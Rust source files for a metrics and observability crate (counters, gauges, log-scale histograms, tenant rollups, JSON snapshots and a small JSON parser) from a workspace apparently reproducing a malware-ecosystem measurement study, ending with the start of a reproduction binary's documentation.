            .map(|(name, r)| (name.clone(), r.snapshot()))
            .collect();

        let mut counters: BTreeMap<String, u64> = BTreeMap::new();
        let mut gauges: BTreeMap<String, i64> = BTreeMap::new();
        let mut histograms: BTreeMap<String, HistogramSnapshot> = BTreeMap::new();
        let mut rollup_hists: BTreeMap<String, Histogram> = BTreeMap::new();
        let mut spans: Vec<SpanSnapshot> = Vec::new();

        for (tenant, snap) in &per_tenant {
            for (name, v) in &snap.counters {
                counters.insert(format!("tenant.{tenant}.{name}"), *v);
                *counters.entry(name.clone()).or_insert(0) += *v;
            }
            for (name, v) in &snap.gauges {
                gauges.insert(format!("tenant.{tenant}.{name}"), *v);
            }
            for (name, h) in &snap.histograms {
                histograms.insert(format!("tenant.{tenant}.{name}"), h.clone());
                rollup_hists.entry(name.clone()).or_default().absorb(h);
            }
            for s in &snap.spans {
                spans.push(SpanSnapshot {
                    name: format!("tenant.{tenant}.{}", s.name),
                    nanos: s.nanos,
                });
            }
        }
        for (name, h) in rollup_hists {
            histograms.insert(name, h.snapshot());
        }
        MetricsSnapshot { counters, gauges, histograms, spans }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tenants_are_isolated_but_roll_up() {
        let t = TenantRegistries::new();
        t.tenant("a").counter("scan.total").add(3);
        t.tenant("b").counter("scan.total").add(4);
        t.tenant("a").gauge("scan.workers").set(2);
        let g = t.global_snapshot();
        assert_eq!(g.counter("tenant.a.scan.total"), 3);
        assert_eq!(g.counter("tenant.b.scan.total"), 4);
        assert_eq!(g.counter("scan.total"), 7, "bare name sums across tenants");
        assert_eq!(g.gauge("tenant.a.scan.workers"), 2);
        assert_eq!(g.gauge("scan.workers"), 0, "gauges never roll up");
        assert_eq!(t.names(), vec!["a".to_string(), "b".to_string()]);
    }

    #[test]
    fn absorb_folds_snapshots_and_histograms_merge() {
        let src = Registry::new();
        src.counter("c").add(5);
        src.histogram("h").record(10);
        src.histogram("h").record(1000);

        let t = TenantRegistries::new();
        t.absorb("x", &src.snapshot());
        t.absorb("x", &src.snapshot());
        t.tenant("y").histogram("h").record(10);

        let g = t.global_snapshot();
        assert_eq!(g.counter("tenant.x.c"), 10);
        assert_eq!(g.counter("c"), 10);
        let rolled = &g.histograms["h"];
        assert_eq!(rolled.count, 5);
        assert_eq!(rolled.sum, 2 * 1010 + 10);
        // Bucket identity survives the snapshot → absorb round trip:
        // three samples of ~10 land in one bucket, two of ~1000 in
        // another.
        assert_eq!(rolled.buckets, vec![(15, 3), (1023, 2)]);
    }

    #[test]
    fn empty_table_snapshots_empty() {
        let g = TenantRegistries::new().global_snapshot();
        assert!(g.counters.is_empty());
        assert!(g.histograms.is_empty());
        assert!(g.spans.is_empty());
    }
}
