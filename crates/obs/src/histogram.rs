//! Latency histograms with fixed log-scale buckets.
//!
//! Bucket boundaries are powers of two: bucket `i` counts samples whose
//! value `v` satisfies `2^i <= v < 2^(i+1)` (bucket 0 holds zeros and
//! ones). Fixed buckets make recording a branch-free atomic increment —
//! cheap enough for per-record latencies on the scan hot path — and
//! merging two histograms a plain element-wise sum.

use std::sync::atomic::{AtomicU64, Ordering};

/// Number of log2 buckets. 2^63 nanoseconds is ~292 years, so 64
/// buckets cover any duration this workspace can observe.
const BUCKETS: usize = 64;

/// A concurrent histogram with fixed log2 buckets.
///
/// All methods take `&self`; recording is a relaxed atomic add on one
/// bucket plus the count/sum totals.
#[derive(Debug)]
pub struct Histogram {
    count: AtomicU64,
    sum: AtomicU64,
    buckets: [AtomicU64; BUCKETS],
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram {
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
            buckets: std::array::from_fn(|_| AtomicU64::new(0)),
        }
    }
}

impl Histogram {
    /// Creates an empty histogram.
    pub fn new() -> Self {
        Histogram::default()
    }

    /// Index of the bucket that holds `value`.
    fn bucket_index(value: u64) -> usize {
        (64 - value.leading_zeros() as usize).saturating_sub(1).min(BUCKETS - 1)
    }

    /// Records one sample.
    pub fn record(&self, value: u64) {
        self.count.fetch_add(1, Ordering::Relaxed);
        self.sum.fetch_add(value, Ordering::Relaxed);
        self.buckets[Self::bucket_index(value)].fetch_add(1, Ordering::Relaxed);
    }

    /// Number of samples recorded.
    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Relaxed)
    }

    /// Sum of all samples.
    pub fn sum(&self) -> u64 {
        self.sum.load(Ordering::Relaxed)
    }

    /// Adds every bucket of a snapshot into this histogram. Snapshot
    /// bounds map back to the exact bucket they came from (`bound + 1`
    /// is a power of two, and `u64::MAX` is the last bucket, so
    /// [`Histogram::bucket_index`] of a bound is the bucket it
    /// summarizes) — absorbing N snapshots then snapshotting equals the
    /// element-wise bucket sum.
    pub fn absorb(&self, snap: &HistogramSnapshot) {
        self.count.fetch_add(snap.count, Ordering::Relaxed);
        self.sum.fetch_add(snap.sum, Ordering::Relaxed);
        for &(bound, n) in &snap.buckets {
            self.buckets[Self::bucket_index(bound)].fetch_add(n, Ordering::Relaxed);
        }
    }

    /// An immutable copy of the current state (non-empty buckets only).
    pub fn snapshot(&self) -> HistogramSnapshot {
        let buckets = self
            .buckets
            .iter()
            .enumerate()
            .filter_map(|(i, b)| {
                let n = b.load(Ordering::Relaxed);
                (n > 0).then(|| (upper_bound(i), n))
            })
            .collect();
        HistogramSnapshot { count: self.count(), sum: self.sum(), buckets }
    }
}

/// Inclusive upper bound of bucket `i` (`u64::MAX` for the last).
fn upper_bound(i: usize) -> u64 {
    if i >= 63 {
        u64::MAX
    } else {
        (2u64 << i) - 1
    }
}

/// Immutable histogram state: totals plus `(upper_bound, count)` pairs
/// for every non-empty bucket, in ascending bound order.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct HistogramSnapshot {
    /// Number of samples.
    pub count: u64,
    /// Sum of samples.
    pub sum: u64,
    /// `(inclusive upper bound, samples)` for non-empty buckets.
    pub buckets: Vec<(u64, u64)>,
}

impl HistogramSnapshot {
    /// Mean sample value (0 when empty).
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum as f64 / self.count as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_boundaries_are_log2() {
        assert_eq!(Histogram::bucket_index(0), 0);
        assert_eq!(Histogram::bucket_index(1), 0);
        assert_eq!(Histogram::bucket_index(2), 1);
        assert_eq!(Histogram::bucket_index(3), 1);
        assert_eq!(Histogram::bucket_index(4), 2);
        assert_eq!(Histogram::bucket_index(1024), 10);
        assert_eq!(Histogram::bucket_index(u64::MAX), 63);
    }

    #[test]
    fn records_accumulate_into_snapshot() {
        let h = Histogram::new();
        for v in [1, 2, 3, 1000, 1024] {
            h.record(v);
        }
        let s = h.snapshot();
        assert_eq!(s.count, 5);
        assert_eq!(s.sum, 2030);
        assert_eq!(s.buckets, vec![(1, 1), (3, 2), (1023, 1), (2047, 1)]);
        assert!((s.mean() - 406.0).abs() < 1e-9);
    }

    #[test]
    fn concurrent_records_are_lossless() {
        let h = std::sync::Arc::new(Histogram::new());
        std::thread::scope(|scope| {
            for _ in 0..8 {
                let h = std::sync::Arc::clone(&h);
                scope.spawn(move || {
                    for v in 0..1000u64 {
                        h.record(v);
                    }
                });
            }
        });
        assert_eq!(h.count(), 8000);
        assert_eq!(h.sum(), 8 * 499_500);
    }

    #[test]
    fn empty_snapshot_mean_is_zero() {
        assert_eq!(Histogram::new().snapshot().mean(), 0.0);
    }
}
