//! Per-worker metric buffers.
//!
//! Shared atomic counters are cheap but not free: a parallel scan phase
//! bumping a handful of counters per record would bounce cache lines
//! between workers. A [`LocalMetrics`] is a plain single-threaded
//! key → delta map each worker owns outright; at phase end the deltas
//! are merged into the shared [`crate::Registry`] (or into another
//! buffer) in one pass.

use std::borrow::Cow;
use std::collections::BTreeMap;

/// A single-threaded buffer of counter deltas.
///
/// Keys are `Cow<'static, str>` so the common case (static metric
/// names) never allocates; per-entity names (e.g. a per-exchange
/// counter) can be added with [`LocalMetrics::add_owned`].
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LocalMetrics {
    counters: BTreeMap<Cow<'static, str>, u64>,
}

impl LocalMetrics {
    /// Creates an empty buffer.
    pub fn new() -> Self {
        LocalMetrics::default()
    }

    /// Adds one to `name`.
    pub fn inc(&mut self, name: &'static str) {
        self.add(name, 1);
    }

    /// Adds `n` to `name`.
    pub fn add(&mut self, name: &'static str, n: u64) {
        *self.counters.entry(Cow::Borrowed(name)).or_insert(0) += n;
    }

    /// Adds `n` to a dynamically-built name.
    pub fn add_owned(&mut self, name: String, n: u64) {
        *self.counters.entry(Cow::Owned(name)).or_insert(0) += n;
    }

    /// Current delta for `name` (0 when absent).
    pub fn count(&self, name: &str) -> u64 {
        self.counters.get(name).copied().unwrap_or(0)
    }

    /// Folds another buffer into this one.
    pub fn merge(&mut self, other: &LocalMetrics) {
        for (name, delta) in &other.counters {
            *self.counters.entry(name.clone()).or_insert(0) += delta;
        }
    }

    /// `(name, delta)` pairs in name order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, u64)> {
        self.counters.iter().map(|(name, delta)| (name.as_ref(), *delta))
    }

    /// True when no counter has been touched.
    pub fn is_empty(&self) -> bool {
        self.counters.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn increments_accumulate() {
        let mut m = LocalMetrics::new();
        m.inc("a");
        m.add("a", 4);
        m.add_owned("b.dynamic".to_string(), 2);
        assert_eq!(m.count("a"), 5);
        assert_eq!(m.count("b.dynamic"), 2);
        assert_eq!(m.count("absent"), 0);
        assert!(!m.is_empty());
    }

    #[test]
    fn merge_sums_by_name() {
        let mut a = LocalMetrics::new();
        a.add("x", 1);
        a.add("y", 2);
        let mut b = LocalMetrics::new();
        b.add("y", 3);
        b.add("z", 4);
        a.merge(&b);
        assert_eq!(a.count("x"), 1);
        assert_eq!(a.count("y"), 5);
        assert_eq!(a.count("z"), 4);
    }

    #[test]
    fn iter_is_name_ordered() {
        let mut m = LocalMetrics::new();
        m.inc("zeta");
        m.inc("alpha");
        let names: Vec<&str> = m.iter().map(|(n, _)| n).collect();
        assert_eq!(names, vec!["alpha", "zeta"]);
    }
}
