//! Immutable snapshots of a registry, with JSON in and out.

use std::collections::BTreeMap;
use std::time::Duration;

use crate::histogram::HistogramSnapshot;
use crate::json::{self, ParseError, Value};

/// One completed span in a snapshot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpanSnapshot {
    /// Span name (e.g. `phase.scan`).
    pub name: String,
    /// Wall-clock nanoseconds.
    pub nanos: u64,
}

impl SpanSnapshot {
    /// The span length as a [`Duration`].
    pub fn duration(&self) -> Duration {
        Duration::from_nanos(self.nanos)
    }
}

/// An immutable, ordered view of every metric in a registry.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct MetricsSnapshot {
    /// Monotonic counters by name.
    pub counters: BTreeMap<String, u64>,
    /// Gauges by name.
    pub gauges: BTreeMap<String, i64>,
    /// Histograms by name.
    pub histograms: BTreeMap<String, HistogramSnapshot>,
    /// Completed spans in recording order.
    pub spans: Vec<SpanSnapshot>,
}

impl MetricsSnapshot {
    /// The counter named `name` (0 when absent).
    pub fn counter(&self, name: &str) -> u64 {
        self.counters.get(name).copied().unwrap_or(0)
    }

    /// The gauge named `name` (0 when absent).
    pub fn gauge(&self, name: &str) -> i64 {
        self.gauges.get(name).copied().unwrap_or(0)
    }

    /// `(name, value)` counters whose name starts with `prefix`.
    pub fn counters_with_prefix<'s>(
        &'s self,
        prefix: &'s str,
    ) -> impl Iterator<Item = (&'s str, u64)> + 's {
        self.counters
            .range(prefix.to_string()..)
            .take_while(move |(name, _)| name.starts_with(prefix))
            .map(|(name, value)| (name.as_str(), *value))
    }

    /// Total wall-clock of every span named `name` (spans may repeat).
    pub fn span_duration(&self, name: &str) -> Duration {
        Duration::from_nanos(
            self.spans.iter().filter(|s| s.name == name).map(|s| s.nanos).sum(),
        )
    }

    /// The deterministic subset: counters and gauges. Histograms and
    /// spans hold wall-clock measurements, which vary per machine and
    /// run; everything returned here must be bit-identical for a fixed
    /// seed regardless of worker counts — this is the view regression
    /// tests pin.
    pub fn deterministic_counters(&self) -> BTreeMap<String, i128> {
        let mut out: BTreeMap<String, i128> = BTreeMap::new();
        for (name, v) in &self.counters {
            out.insert(name.clone(), *v as i128);
        }
        for (name, v) in &self.gauges {
            out.insert(format!("gauge:{name}"), *v as i128);
        }
        out
    }

    /// Serializes the snapshot as pretty-printed JSON.
    pub fn to_json(&self) -> String {
        let mut out = String::with_capacity(1024);
        out.push_str("{\n  \"counters\": {");
        write_map(&mut out, self.counters.iter(), |out, v| out.push_str(&v.to_string()));
        out.push_str("},\n  \"gauges\": {");
        write_map(&mut out, self.gauges.iter(), |out, v| out.push_str(&v.to_string()));
        out.push_str("},\n  \"histograms\": {");
        write_map(&mut out, self.histograms.iter(), |out, h| {
            out.push_str(&format!("{{\"count\": {}, \"sum\": {}, \"buckets\": [", h.count, h.sum));
            for (i, (le, n)) in h.buckets.iter().enumerate() {
                if i > 0 {
                    out.push_str(", ");
                }
                out.push_str(&format!("[{le}, {n}]"));
            }
            out.push_str("]}");
        });
        out.push_str("},\n  \"spans\": [");
        for (i, span) in self.spans.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str("\n    {\"name\": ");
            json::write_escaped(&mut out, &span.name);
            out.push_str(&format!(", \"nanos\": {}}}", span.nanos));
        }
        if !self.spans.is_empty() {
            out.push_str("\n  ");
        }
        out.push_str("]\n}\n");
        out
    }

    /// Parses a snapshot back from [`MetricsSnapshot::to_json`] output.
    ///
    /// # Errors
    ///
    /// Returns a [`ParseError`] on malformed JSON or a document that
    /// does not have the snapshot shape.
    pub fn from_json(input: &str) -> Result<MetricsSnapshot, ParseError> {
        let doc = json::parse(input)?;
        let top = doc.as_object().ok_or_else(|| shape_err("top level must be an object"))?;

        let mut snapshot = MetricsSnapshot::default();
        if let Some(counters) = top.get("counters") {
            let map = counters.as_object().ok_or_else(|| shape_err("counters"))?;
            for (name, v) in map {
                let v = v.as_u64().ok_or_else(|| shape_err("counter value"))?;
                snapshot.counters.insert(name.clone(), v);
            }
        }
        if let Some(gauges) = top.get("gauges") {
            let map = gauges.as_object().ok_or_else(|| shape_err("gauges"))?;
            for (name, v) in map {
                let v = v.as_i64().ok_or_else(|| shape_err("gauge value"))?;
                snapshot.gauges.insert(name.clone(), v);
            }
        }
        if let Some(histograms) = top.get("histograms") {
            let map = histograms.as_object().ok_or_else(|| shape_err("histograms"))?;
            for (name, h) in map {
                let h = h.as_object().ok_or_else(|| shape_err("histogram"))?;
                let count = field_u64(h, "count")?;
                let sum = field_u64(h, "sum")?;
                let mut buckets = Vec::new();
                for pair in
                    h.get("buckets").and_then(Value::as_array).ok_or_else(|| shape_err("buckets"))?
                {
                    let pair = pair.as_array().ok_or_else(|| shape_err("bucket pair"))?;
                    let [le, n] = pair else { return Err(shape_err("bucket pair arity")) };
                    buckets.push((
                        le.as_u64().ok_or_else(|| shape_err("bucket bound"))?,
                        n.as_u64().ok_or_else(|| shape_err("bucket count"))?,
                    ));
                }
                snapshot
                    .histograms
                    .insert(name.clone(), HistogramSnapshot { count, sum, buckets });
            }
        }
        if let Some(spans) = top.get("spans") {
            for span in spans.as_array().ok_or_else(|| shape_err("spans"))? {
                let span = span.as_object().ok_or_else(|| shape_err("span"))?;
                let name = span
                    .get("name")
                    .and_then(Value::as_str)
                    .ok_or_else(|| shape_err("span name"))?;
                snapshot
                    .spans
                    .push(SpanSnapshot { name: name.to_string(), nanos: field_u64(span, "nanos")? });
            }
        }
        Ok(snapshot)
    }
}

fn shape_err(what: &str) -> ParseError {
    ParseError { message: format!("snapshot shape mismatch: {what}"), offset: 0 }
}

fn field_u64(map: &BTreeMap<String, Value>, key: &str) -> Result<u64, ParseError> {
    map.get(key).and_then(Value::as_u64).ok_or_else(|| shape_err(key))
}

/// Writes `"key": <value>` pairs into an already-open JSON object.
fn write_map<'a, V: 'a>(
    out: &mut String,
    entries: impl Iterator<Item = (&'a String, &'a V)>,
    mut write_value: impl FnMut(&mut String, &V),
) {
    let mut first = true;
    let mut any = false;
    for (key, value) in entries {
        if !first {
            out.push(',');
        }
        first = false;
        any = true;
        out.push_str("\n    ");
        json::write_escaped(out, key);
        out.push_str(": ");
        write_value(out, value);
    }
    if any {
        out.push_str("\n  ");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Registry;

    fn sample() -> MetricsSnapshot {
        let r = Registry::new();
        r.counter("crawl.pages").add(12);
        r.counter("scan.labels.vt.Trojan:JS/Redirector").add(3);
        r.gauge("scan.workers").set(4);
        r.histogram("scan.record_nanos").record(1500);
        r.histogram("scan.record_nanos").record(90);
        r.record_span("phase.build", Duration::from_nanos(1234));
        r.record_span("phase.scan", Duration::from_micros(42));
        r.snapshot()
    }

    #[test]
    fn json_round_trip_is_lossless() {
        let snap = sample();
        let back = MetricsSnapshot::from_json(&snap.to_json()).expect("parse");
        assert_eq!(back, snap);
    }

    #[test]
    fn empty_snapshot_round_trips() {
        let snap = MetricsSnapshot::default();
        assert_eq!(MetricsSnapshot::from_json(&snap.to_json()).unwrap(), snap);
    }

    #[test]
    fn deterministic_counters_exclude_wall_clock() {
        let snap = sample();
        let det = snapshot_names(&snap);
        assert!(det.contains(&"crawl.pages".to_string()));
        assert!(det.contains(&"gauge:scan.workers".to_string()));
        assert!(!det.iter().any(|n| n.contains("nanos")));
        fn snapshot_names(s: &MetricsSnapshot) -> Vec<String> {
            s.deterministic_counters().keys().cloned().collect()
        }
    }

    #[test]
    fn prefix_query_selects_counter_families() {
        let snap = sample();
        let labels: Vec<(&str, u64)> = snap.counters_with_prefix("scan.labels.").collect();
        assert_eq!(labels, vec![("scan.labels.vt.Trojan:JS/Redirector", 3)]);
        assert!(snap.counters_with_prefix("zzz.").next().is_none());
    }

    #[test]
    fn span_duration_sums_repeats() {
        let r = Registry::new();
        r.record_span("p", Duration::from_nanos(10));
        r.record_span("p", Duration::from_nanos(5));
        assert_eq!(r.snapshot().span_duration("p"), Duration::from_nanos(15));
    }

    #[test]
    fn counter_and_gauge_defaults_are_zero() {
        let snap = MetricsSnapshot::default();
        assert_eq!(snap.counter("missing"), 0);
        assert_eq!(snap.gauge("missing"), 0);
    }
}
