//! # slum-obs
//!
//! The observability substrate for the malware-slums reproduction: a
//! lightweight, dependency-free metrics layer that every crate in the
//! workspace can link without cycles.
//!
//! The paper's credibility rests on knowing exactly what the crawler
//! and the scanners did — how many URLs were surfed, how many scans hit
//! a cache instead of running, how many labels each engine produced.
//! This crate provides the vocabulary for reporting that:
//!
//! - [`Registry`] — a `Send + Sync` home for named metrics;
//! - monotonic [`Counter`]s and settable [`Gauge`]s (lock-free atomics);
//! - [`Histogram`]s with fixed log-scale buckets for latencies;
//! - named span timers ([`Registry::span`]) for phase wall-clock;
//! - [`LocalMetrics`] — a per-worker plain-integer buffer for hot
//!   paths, merged into the registry at phase end so parallel workers
//!   never contend on shared counters;
//! - [`MetricsSnapshot`] — an immutable, ordered view of everything,
//!   serializable to JSON and parseable back ([`MetricsSnapshot::to_json`],
//!   [`MetricsSnapshot::from_json`]);
//! - [`TenantRegistries`] — per-tenant registries for a multi-study
//!   service, with a namespaced global rollup
//!   ([`TenantRegistries::global_snapshot`]).
//!
//! ## Determinism contract
//!
//! Counters and gauges must be *deterministic*: for a fixed seed they
//! hold the same values regardless of worker counts or scheduling.
//! Wall-clock measurements (histogram samples of durations, span
//! nanoseconds) are machine-dependent and are therefore excluded from
//! [`MetricsSnapshot::deterministic_counters`], the view that tests pin.
//!
//! ```
//! use slum_obs::Registry;
//!
//! let registry = Registry::new();
//! registry.counter("crawl.pages").add(3);
//! {
//!     let _span = registry.span("phase.crawl");
//!     // ... timed work ...
//! }
//! let snapshot = registry.snapshot();
//! assert_eq!(snapshot.counter("crawl.pages"), 3);
//! let json = snapshot.to_json();
//! let back = slum_obs::MetricsSnapshot::from_json(&json).unwrap();
//! assert_eq!(back, snapshot);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod histogram;
pub mod json;
pub mod local;
pub mod registry;
pub mod rollup;
pub mod snapshot;

pub use histogram::{Histogram, HistogramSnapshot};
pub use local::LocalMetrics;
pub use registry::{Counter, Gauge, Registry, SpanGuard};
pub use rollup::TenantRegistries;
pub use snapshot::{MetricsSnapshot, SpanSnapshot};
