//! Minimal JSON support for metric snapshots.
//!
//! The registry must stay dependency-free, so this module carries its
//! own writer helpers and a small recursive-descent parser covering the
//! JSON subset snapshots use: objects, arrays, strings and integers.

use std::collections::BTreeMap;
use std::fmt;

/// A parsed JSON value (integer numbers only — snapshots never emit
/// fractions).
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// An object, key-ordered.
    Object(BTreeMap<String, Value>),
    /// An array.
    Array(Vec<Value>),
    /// A string.
    String(String),
    /// An integer (covers the full `u64` and `i64` ranges).
    Int(i128),
}

impl Value {
    /// The object map, if this is an object.
    pub fn as_object(&self) -> Option<&BTreeMap<String, Value>> {
        match self {
            Value::Object(map) => Some(map),
            _ => None,
        }
    }

    /// The array items, if this is an array.
    pub fn as_array(&self) -> Option<&[Value]> {
        match self {
            Value::Array(items) => Some(items),
            _ => None,
        }
    }

    /// The string contents, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::String(s) => Some(s),
            _ => None,
        }
    }

    /// The value as a `u64`, if integral and in range.
    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Value::Int(i) => u64::try_from(*i).ok(),
            _ => None,
        }
    }

    /// The value as an `i64`, if integral and in range.
    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::Int(i) => i64::try_from(*i).ok(),
            _ => None,
        }
    }
}

/// A parse failure: what went wrong and the byte offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// Human-readable description.
    pub message: String,
    /// Byte offset into the input.
    pub offset: usize,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "JSON parse error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for ParseError {}

/// Appends `s` to `out` as a quoted, escaped JSON string.
pub fn write_escaped(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

/// Parses a complete JSON document.
///
/// # Errors
///
/// Returns a [`ParseError`] on malformed input or on constructs outside
/// the supported subset (floats, booleans, null).
pub fn parse(input: &str) -> Result<Value, ParseError> {
    let mut p = Parser { bytes: input.as_bytes(), pos: 0 };
    p.skip_ws();
    let value = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(p.err("trailing characters"));
    }
    Ok(value)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn err(&self, message: &str) -> ParseError {
        ParseError { message: message.to_string(), offset: self.pos }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, byte: u8) -> Result<(), ParseError> {
        if self.peek() == Some(byte) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(&format!("expected '{}'", byte as char)))
        }
    }

    fn value(&mut self) -> Result<Value, ParseError> {
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Value::String(self.string()?)),
            Some(b'-' | b'0'..=b'9') => self.number(),
            Some(_) => Err(self.err("unsupported value (only objects, arrays, strings and integers)")),
            None => Err(self.err("unexpected end of input")),
        }
    }

    fn object(&mut self) -> Result<Value, ParseError> {
        self.expect(b'{')?;
        let mut map = BTreeMap::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Object(map));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            map.insert(key, value);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Object(map));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn array(&mut self) -> Result<Value, ParseError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn string(&mut self) -> Result<String, ParseError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Consume a run of plain bytes in one slice.
            while let Some(b) = self.peek() {
                if b == b'"' || b == b'\\' || b < 0x20 {
                    break;
                }
                self.pos += 1;
            }
            out.push_str(
                std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| self.err("invalid UTF-8"))?,
            );
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'u') => {
                            let hex = self
                                .bytes
                                .get(self.pos + 1..self.pos + 5)
                                .ok_or_else(|| self.err("truncated \\u escape"))?;
                            let hex = std::str::from_utf8(hex)
                                .map_err(|_| self.err("invalid \\u escape"))?;
                            // `from_str_radix` alone is too permissive:
                            // it accepts a leading `+`, so `\u+1ff`
                            // would silently parse. Require 4 hex
                            // digits, as JSON does.
                            if !hex.chars().all(|c| c.is_ascii_hexdigit()) {
                                return Err(self.err("invalid \\u escape"));
                            }
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|_| self.err("invalid \\u escape"))?;
                            out.push(
                                char::from_u32(code)
                                    .ok_or_else(|| self.err("non-scalar \\u escape"))?,
                            );
                            self.pos += 4;
                        }
                        _ => return Err(self.err("invalid escape")),
                    }
                    self.pos += 1;
                }
                _ => return Err(self.err("unterminated string")),
            }
        }
    }

    fn number(&mut self) -> Result<Value, ParseError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        if matches!(self.peek(), Some(b'.' | b'e' | b'E')) {
            return Err(self.err("fractional numbers are not supported"));
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).expect("ASCII digits");
        text.parse::<i128>()
            .map(Value::Int)
            .map_err(|_| self.err("invalid integer"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_nested_document() {
        let v = parse(r#"{"a": {"b": [1, 2, -3]}, "s": "hi"}"#).unwrap();
        let obj = v.as_object().unwrap();
        assert_eq!(obj["s"].as_str(), Some("hi"));
        let inner = obj["a"].as_object().unwrap();
        let items = inner["b"].as_array().unwrap();
        assert_eq!(items[0].as_u64(), Some(1));
        assert_eq!(items[2].as_i64(), Some(-3));
    }

    #[test]
    fn escapes_round_trip() {
        let nasty = "a\"b\\c\nd\te\u{1}f";
        let mut doc = String::new();
        write_escaped(&mut doc, nasty);
        assert_eq!(parse(&doc).unwrap().as_str(), Some(nasty));
    }

    #[test]
    fn rejects_floats_and_trailing_garbage() {
        assert!(parse("1.5").is_err());
        assert!(parse("{} x").is_err());
        assert!(parse("true").is_err());
        assert!(parse("").is_err());
    }

    #[test]
    fn full_u64_range_survives() {
        let v = parse(&u64::MAX.to_string()).unwrap();
        assert_eq!(v.as_u64(), Some(u64::MAX));
        let v = parse(&i64::MIN.to_string()).unwrap();
        assert_eq!(v.as_i64(), Some(i64::MIN));
    }
}
