//! Bench crate library stub.
