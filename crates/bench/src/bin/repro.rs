//! `repro` — regenerate every table and figure of *Malware Slums*
//! (DSN 2016) from the simulated ecosystem.
//!
//! ```sh
//! cargo run --release -p slum-bench --bin repro -- all
//! cargo run --release -p slum-bench --bin repro -- table1 --scale 0.01
//! cargo run --release -p slum-bench --bin repro -- vetting burst cloaking cases
//! ```
//!
//! Artifacts: `table1`..`table4`, `fig2`..`fig7` (all served through
//! the unified [`ArtifactKind`] API), the auxiliary experiments
//! `vetting` (§III-B), `burst` (§IV), `cloaking` (§III fn. 1) and
//! `cases` (§V), `faultloss` (the detection-loss-under-faults
//! experiment), `crawlloss` (the corpus-loss-under-exchange-faults
//! experiment), plus `json` (the full study as one JSON document),
//! `bench-scan` (the crawl→scan scaling harness: serial vs chunked
//! parallel scan timing plus barrier-vs-overlap pipeline wall-clock
//! across crawl scales, written to `BENCH_scanpipe.json`) and
//! `bench-jsvm` (the JS-engine harness: tree-walk vs cold vs warm-cache
//! bytecode VM over a repeated-payload corpus, plus per-scale scan
//! wall-clock under each engine, written to `BENCH_jsvm.json`),
//! `bench-serve` (the multi-tenant service harness: two tenants running
//! the same study through one resident service, cross-tenant cache hit
